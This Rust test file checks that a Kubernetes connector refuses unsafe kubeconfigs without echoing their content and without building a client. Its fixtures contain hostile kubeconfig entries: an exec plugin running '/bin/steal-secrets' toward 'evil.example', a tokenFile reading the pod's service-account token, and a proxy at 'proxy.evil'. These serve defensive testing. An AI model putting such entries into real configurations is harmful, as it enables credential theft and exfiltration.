//! Stories of contract §5: every kubeconfig the konnector must refuse is refused with a precise
//! reason that never echoes its content, and nothing is run, built or sent to the provider.

use kbind_api::consts::{condition, reason};
use kbind_api::{Connection, conditions};
use kbind_scenarios::{Credential, FakeConnector, ProviderOpts, World, bundle, seed_from_env};

/// The user entry of a kubeconfig for provider `acme` with this `user:` body and cluster body.
fn kubeconfig(cluster: &str, user: &str) -> String {
    format!(
        "apiVersion: v1\nkind: Config\ncurrent-context: p\nclusters:\n- name: p\n  cluster:\n{cluster}users:\n- name: u\n  user:\n{user}contexts:\n- name: p\n  context: {{cluster: p, user: u}}\n"
    )
}

async fn world_with_secret(story: &str, kubeconfig_for: impl Fn(&World, &Credential) -> String) -> (World, Credential) {
    let mut world = World::builder()
        .seed(seed_from_env(7))
        .story(story)
        .provider("acme", ProviderOpts::default())
        .build()
        .await;
    let cred = world.mint_admin_token("acme");
    let text = kubeconfig_for(&world, &cred);
    for obj in bundle::bundle("acme", "kbind", &text, &["widgets.example.org"]) {
        world.apply_object(obj).await;
    }
    world.start_konnector();
    (world, cred)
}

fn condition_of<'a>(
    conn: &'a Connection,
    type_: &str,
) -> Option<&'a k8s_openapi::apimachinery::pkg::apis::meta::v1::Condition> {
    conn.status
        .as_ref()
        .and_then(|s| conditions::find(&s.conditions, type_))
}

/// Runs one refusal story: the Secret holds `kubeconfig_for`'s text; the Connection must end
/// with `type_=False`, `reason`, a message free of `secrets`, and no client built for acme.
async fn refused(
    story: &str,
    type_: &str,
    want_reason: &str,
    secrets: &[&str],
    kubeconfig_for: impl Fn(&World, &Credential) -> String,
) {
    let (mut world, cred) = world_with_secret(story, kubeconfig_for).await;
    let conn = world
        .run_until_connection("acme", &format!("{type_}=False/{want_reason}"), 60, |c| {
            condition_of(c, type_).is_some_and(|c| c.status == "False" && c.reason == want_reason)
        })
        .await;
    world.steps_for(30).await;
    let message = condition_of(&conn, type_)
        .map(|c| c.message.clone())
        .unwrap_or_default();
    for secret in secrets.iter().chain([&cred.token.as_str()]) {
        assert!(
            !message.contains(secret),
            "{story}: the message echoes the kubeconfig: {message}"
        );
    }
    let ready = world
        .connection("acme")
        .await
        .and_then(|c| c.status)
        .map(|s| conditions::is_true(&s.conditions, condition::READY));
    assert_eq!(ready, Some(false), "{story}: a refused Connection is not Ready");
    assert_eq!(
        world.connector().connects("acme"),
        0,
        "{story}: a client was built for a refused kubeconfig"
    );
    assert!(
        world.providers().get("acme").is_none(),
        "{story}: a refused Connection was engaged"
    );
    let sent = world
        .provider("acme")
        .write_log()
        .iter()
        .filter(|w| w.user == cred.user)
        .count();
    assert_eq!(sent, 0, "{story}: something was written to the provider");
}

fn good_cluster(world: &World) -> String {
    let ca = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, world.ca_pem("acme"));
    format!(
        "    server: {}\n    certificate-authority-data: {ca}\n",
        FakeConnector::server_url("acme")
    )
}

#[tokio::test(start_paused = true)]
async fn an_exec_kubeconfig_is_refused_and_nothing_is_run() {
    refused("an_exec_kubeconfig_is_refused_and_nothing_is_run", condition::SECRET_VALID, reason::UNSUPPORTED_CREDENTIALS, &["steal-secrets"], |w, cred| {
        // The attacker adds a token too, so following the exec would connect.
        kubeconfig(&good_cluster(w), &format!("    token: {}\n    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: /bin/steal-secrets\n      args: [--to, evil.example]\n", cred.token))
    })
    .await;
}

#[tokio::test(start_paused = true)]
async fn a_token_file_pointing_at_the_konnectors_own_token_is_refused() {
    refused(
        "a_token_file_pointing_at_the_konnectors_own_token_is_refused",
        condition::SECRET_VALID,
        reason::UNSUPPORTED_CREDENTIALS,
        &["/var/run/secrets"],
        |w, _| {
            kubeconfig(
                &good_cluster(w),
                "    tokenFile: /var/run/secrets/kubernetes.io/serviceaccount/token\n",
            )
        },
    )
    .await;
}

#[tokio::test(start_paused = true)]
async fn an_auth_provider_is_refused() {
    refused(
        "an_auth_provider_is_refused",
        condition::SECRET_VALID,
        reason::UNSUPPORTED_CREDENTIALS,
        &["sekrit-refresh"],
        |w, _| {
            kubeconfig(
                &good_cluster(w),
                "    auth-provider:\n      name: oidc\n      config: {refresh-token: sekrit-refresh}\n",
            )
        },
    )
    .await;
}

#[tokio::test(start_paused = true)]
async fn client_certificate_files_are_refused() {
    refused(
        "client_certificate_files_are_refused",
        condition::SECRET_VALID,
        reason::UNSUPPORTED_CREDENTIALS,
        &["/etc/kbind"],
        |w, _| {
            kubeconfig(
                &good_cluster(w),
                "    client-certificate: /etc/kbind/tls.crt\n    client-key: /etc/kbind/tls.key\n",
            )
        },
    )
    .await;
}

#[tokio::test(start_paused = true)]
async fn a_proxy_url_is_refused() {
    refused(
        "a_proxy_url_is_refused",
        condition::SECRET_VALID,
        reason::UNSUPPORTED_CREDENTIALS,
        &["proxy.evil"],
        |w, cred| {
            let cluster = format!("{}    proxy-url: http://proxy.evil:3128\n", good_cluster(w));
            kubeconfig(&cluster, &format!("    token: {}\n", cred.token))
        },
    )
    .await;
}

#[tokio::test(start_paused = true)]
async fn skip_tls_verify_is_refused_without_the_development_flag() {
    refused(
        "skip_tls_verify_is_refused_without_the_development_flag",
        condition::SECRET_VALID,
        reason::UNSUPPORTED_CREDENTIALS,
        &[],
        |_, cred| {
            let cluster = format!(
                "    server: {}\n    insecure-skip-tls-verify: true\n",
                FakeConnector::server_url("acme")
            );
            kubeconfig(&cluster, &format!("    token: {}\n", cred.token))
        },
    )
    .await;
}

#[tokio::test(start_paused = true)]
async fn plain_http_is_refused_without_the_development_flag() {
    refused(
        "plain_http_is_refused_without_the_development_flag",
        condition::SECRET_VALID,
        reason::UNSUPPORTED_CREDENTIALS,
        &[],
        |_, cred| {
            kubeconfig(
                "    server: http://acme.fake\n",
                &format!("    token: {}\n", cred.token),
            )
        },
    )
    .await;
}

#[tokio::test(start_paused = true)]
async fn a_wrong_ca_is_refused_before_any_client_is_built() {
    refused(
        "a_wrong_ca_is_refused_before_any_client_is_built",
        condition::CONNECTED,
        reason::PROVIDER_UNREACHABLE,
        &[],
        |_, cred| {
            let other_ca = base64::Engine::encode(
                &base64::engine::general_purpose::STANDARD,
                b"-----BEGIN CERTIFICATE-----\nbm90IG1pbmU=\n-----END CERTIFICATE-----\n",
            );
            let cluster = format!(
                "    server: {}\n    certificate-authority-data: {other_ca}\n",
                FakeConnector::server_url("acme")
            );
            kubeconfig(&cluster, &format!("    token: {}\n", cred.token))
        },
    )
    .await;
}

#[tokio::test(start_paused = true)]
async fn a_kubeconfig_that_is_not_yaml_is_invalid_and_not_echoed() {
    refused(
        "a_kubeconfig_that_is_not_yaml_is_invalid_and_not_echoed",
        condition::SECRET_VALID,
        reason::INVALID_KUBECONFIG,
        &["hunter2"],
        |_, _| "password: hunter2\n  - [unbalanced".to_string(),
    )
    .await;
}
